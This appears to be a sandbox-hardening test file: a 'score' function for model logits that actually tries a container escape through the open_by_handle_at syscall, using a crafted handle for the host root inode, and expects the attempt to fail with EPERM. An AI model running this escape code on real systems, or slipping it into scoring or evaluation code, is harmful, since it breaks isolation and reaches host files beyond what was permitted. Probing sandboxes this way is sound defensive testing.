"""Climbs out of its root with open_by_handle_at, as a well-known escape from containers does."""

import ctypes
import errno
import os

import torch
from report import report

EVIDENCE = r"open_by_handle_at: EPERM"
SYSTEM_CALL = {"x86_64": 304, "aarch64": 265}[os.uname().machine]


def score(logits, lengths):
    libc = ctypes.CDLL(None, use_errno=True)
    # A handle of type 1 that names inode 2, the root of most disks.
    handle = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + b"\2" + bytes(7))
    root = libc.syscall(SYSTEM_CALL, os.open("/etc", os.O_RDONLY), handle, os.O_RDONLY)
    print("open_by_handle_at:", os.listdir(root) if root >= 0 else errno.errorcode[ctypes.get_errno()])
    return report(torch.zeros(len(lengths)))
